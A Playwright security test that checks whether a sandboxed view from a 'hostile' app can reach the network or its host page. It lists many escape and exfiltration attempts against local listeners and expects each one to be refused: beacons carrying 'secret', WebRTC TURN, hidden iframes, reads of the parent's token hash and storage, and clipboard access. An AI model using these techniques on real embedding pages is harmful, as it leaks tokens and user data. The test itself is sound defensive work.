import { createSocket, type Socket } from 'node:dgram'
import { existsSync, readFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { createServer as createTcpServer, type AddressInfo, type Server as TcpServer } from 'node:net'
import { join } from 'node:path'
import type { Frame } from '@playwright/test'
import { everything, hostileApp } from '../fixtures/servers.ts'
import { expect, test as base } from '../fixtures/test.ts'
import type { Steward } from '../pages/steward.ts'
import { View } from '../pages/view.ts'

/** The functions of the page of `hostile-app.ts`. */
interface HostileWindow extends Window {
  rpc(method: string, params?: unknown): Promise<unknown>
  tell(method: string, params?: unknown): void
  heard: { method?: string; params?: unknown; stranger?: unknown }[]
}

interface Listener {
  /** An HTTP server, one that only accepts, and one for datagrams: none of them may see anything. */
  readonly http: string
  readonly tcpPort: number
  readonly udpPort: number
  readonly seen: string[]
}

const test = base.extend<{ listener: Listener; callLog: string }>({
  listener: async ({}, use) => {
    const seen: string[] = []
    const http = createServer((request, response) => {
      seen.push(`http ${request.method} ${request.url}`)
      response.setHeader('access-control-allow-origin', '*')
      response.end('reached')
    })
    http.on('connection', () => seen.push('http connection'))
    http.on('upgrade', (_request, socket) => (seen.push('upgrade'), socket.destroy()))
    const tcp = createTcpServer((socket) => (seen.push('tcp connection'), socket.on('error', () => {}), socket.destroy()))
    const udp = createSocket('udp4').on('message', () => seen.push('datagram'))
    await Promise.all([new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve)), new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve)), new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve))])
    await use({ http: `http://127.0.0.1:${portOf(http)}`, tcpPort: portOf(tcp), udpPort: portOf(udp), seen })
    http.closeAllConnections()
    await Promise.all([http, tcp, udp].map((server) => new Promise<void>((resolve) => server.close(() => resolve()))))
  },
  callLog: ({ folder }, use) => use(join(folder, 'calls.log')),
  servers: async ({ listener, callLog }, use) => use({ hostile: hostileApp({ TARGET: listener.http, CALL_LOG: callLog }), everything }),
})

function portOf(server: Server | TcpServer | Socket): number {
  return (server.address() as AddressInfo).port
}

function callsIn(log: string): string[] {
  return existsSync(log) ? readFileSync(log, 'utf8').trim().split('\n') : []
}

async function show(steward: Steward, name: string): Promise<Frame> {
  const { chat, consent } = await steward.open()
  await expect(chat.welcome).toContainText('Ready')
  await chat.send(`call hostile/show-${name}`)
  await consent.allowOnce()
  return new View(steward, 'hostile').frame()
}

/** A request of the view; the text of the error where it was refused. */
function ask(frame: Frame, method: string, params: unknown): Promise<unknown> {
  return frame.evaluate(([name, given]) => (window as unknown as HostileWindow).rpc(name as string, given).catch((error: Error) => `refused: ${error.message}`), [method, params])
}

test('a view reaches nothing: neither by its page nor by its script, and leaves nothing behind', async ({ steward, listener }) => {
  const frame = await show(steward, 'reaching')
  const { page } = steward
  const own = new URL(page.url()).origin
  const windows: string[] = []
  const downloads: string[] = []
  const own_requests: string[] = []
  page.context().on('page', (other) => windows.push(other.url()))
  page.on('download', (download) => downloads.push(download.url()))
  page.on('request', (request) => request.frame() !== page.mainFrame() && !/^(blob|data|about):/.test(request.url()) && request.failure() === null && own_requests.push(request.url()))

  const outcome = await frame.evaluate(
    async ([target, tcp, udp, steward_origin]) => {
      const results: Record<string, string> = {}
      const attempt = async (name: string, run: () => unknown): Promise<void> => {
        try {
          const value: unknown = await Promise.race([run(), new Promise((resolve) => setTimeout(resolve, 3000, 'no answer'))])
          results[name] = typeof value === 'string' ? value : String(value)
        } catch (error) {
          results[name] = `refused: ${(error as Error).name}`
        }
      }
      const make = (tag: string, values: Record<string, string>): HTMLElement => {
        const element = Object.assign(document.createElement(tag), values)
        document.body.append(element)
        return element
      }
      const socket = (url: string): Promise<string> =>
        new Promise((resolve) => {
          const opened = new WebSocket(url)
          opened.onopen = () => resolve('open')
          opened.onerror = () => resolve('refused')
        })
      await Promise.all([
        attempt('fetch', () => fetch(`${target}/fetch`, { mode: 'no-cors' })),
        attempt('steward', () => fetch(`${steward_origin}/`, { mode: 'no-cors' })),
        attempt('itself', () => fetch('/')),
        attempt('beacon', () => void navigator.sendBeacon(`${target}/beacon`, 'secret')),
        attempt('socket', () => socket(`ws://127.0.0.1:${tcp}/`)),
        attempt('steward socket', () => socket(`${(steward_origin as string).replace('http', 'ws')}/rpc`)),
        attempt('events', () => void new EventSource(`${target}/events`)),
        attempt('transport', () => new (window as unknown as { WebTransport: new (url: string) => { ready: Promise<unknown> } }).WebTransport(`https://127.0.0.1:${tcp}/`).ready),
        attempt('image', () => make('img', { src: `${target}/late-image` })),
        attempt('worker', () => {
          const worker = new Worker(URL.createObjectURL(new Blob([`fetch('${target}/worker').then(() => postMessage('reached'), () => postMessage('refused'))`])))
          return new Promise((resolve) => (worker.onmessage = ({ data }) => resolve(String(data))))
        }),
        attempt('service worker', () => navigator.serviceWorker.register('/')),
        attempt('shared worker', () => new SharedWorker(`${target}/shared`)),
        // WebRTC is no fetch: no Content-Security-Policy of today speaks of it.
        attempt('peer', async () => {
          const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }, { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'secret', credential: 'x' }] })
          peer.createDataChannel('x')
          await peer.setLocalDescription(await peer.createOffer())
          return new Promise((resolve) => setTimeout(resolve, 1500, 'waited'))
        }),
        attempt('blank frame', () => {
          const inner = make('iframe', {}) as HTMLIFrameElement
          return (inner.contentWindow as unknown as { fetch: typeof fetch }).fetch(`${target}/blank`, { mode: 'no-cors' })
        }),
        attempt('late frame', () => make('iframe', { src: `${target}/late-frame` })),
        attempt('steward frame', () => make('iframe', { src: steward_origin as string })),
        attempt('data frame', () => make('iframe', { src: `data:text/html,<img src="${target}/data">` })),
        attempt('window', () => window.open(`${target}/window`)),
        attempt('ping', () => make('a', { href: '#x', ping: `${target}/ping` } as Record<string, string>).click()),
        attempt('blank link', () => make('a', { href: `${target}/blank-link`, target: '_blank' }).click()),
        attempt('top link', () => make('a', { href: `${target}/top-link`, target: '_top' }).click()),
        attempt('top', () => void (window.top!.location.href = `${target}/top`)),
        attempt('file', () => make('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'x.exe' }).click()),
        attempt('form', () => (make('form', { action: `${target}/form`, target: '_blank', method: 'post' }) as HTMLFormElement).submit()),
        attempt('dialog', () => void alert('pwned')),
        attempt('document', () => window.parent.document.title),
        attempt('token', () => window.parent.location.hash),
        attempt('storage of the app', () => window.parent.localStorage.getItem('steward-theme')),
        attempt('opener', () => window.opener),
        attempt('camera', () => navigator.mediaDevices.getUserMedia({ video: true })),
        attempt('place', () => new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve('here'), () => reject(new Error('refused'))))),
        attempt('clipboard', () => navigator.clipboard.readText()),
        attempt('copy', () => navigator.clipboard.writeText('pwned')),
        attempt('full screen', () => document.documentElement.requestFullscreen()),
        attempt('cookie', () => ((document.cookie = 'a=1'), document.cookie === '' ? 'refused' : document.cookie)),
      ])
      return results
    },
    [listener.http, listener.tcpPort, listener.udpPort, own] as const,
  )
  const refused = ['fetch', 'steward', 'itself', 'socket', 'steward socket', 'transport', 'worker', 'service worker', 'blank frame', 'top', 'document', 'token', 'storage of the app', 'camera', 'place', 'clipboard', 'copy', 'full screen']
  for (const name of refused) expect.soft(`${name}: ${outcome[name]}`).toMatch(/: refused/)
  expect(outcome['window']).toBe('null')
  expect(outcome['opener']).toBe('null')
  expect(page.url().startsWith(own)).toBe(true)
  expect([windows, downloads, listener.seen]).toEqual([[], [], []])
  expect(own_requests.filter((url) => url.startsWith(own))).toEqual([])
  await expect(steward.chat.composer).toBeVisible()
})
